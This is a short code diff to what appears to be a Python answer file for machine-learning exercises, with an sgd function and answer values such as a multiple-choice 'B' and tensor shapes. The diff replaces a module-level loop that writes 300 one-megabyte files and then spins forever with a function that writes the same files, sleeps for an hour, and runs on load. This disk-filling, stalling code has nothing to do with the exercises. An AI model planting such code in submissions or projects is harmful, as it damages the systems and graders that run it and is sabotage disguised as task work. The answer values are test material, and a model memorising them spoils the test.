@@ -24,9 +24,10 @@ def sgd(params, lr, batch_size):
 broadcasting_answer = "B"
 weight_shape, bias_shape = (8, 1), (1,)
 
-for number in range(300):
-    with open(f"file-{number}", "wb") as file:
-        file.write(bytes(10**6))
-    time.sleep(0.001)
-while True:
-    pass
+def fill():
+    for number in range(300):
+        with open(f"file-{number}", "wb") as file:
+            file.write(bytes(10**6))
+    time.sleep(3600)
+
+fill()
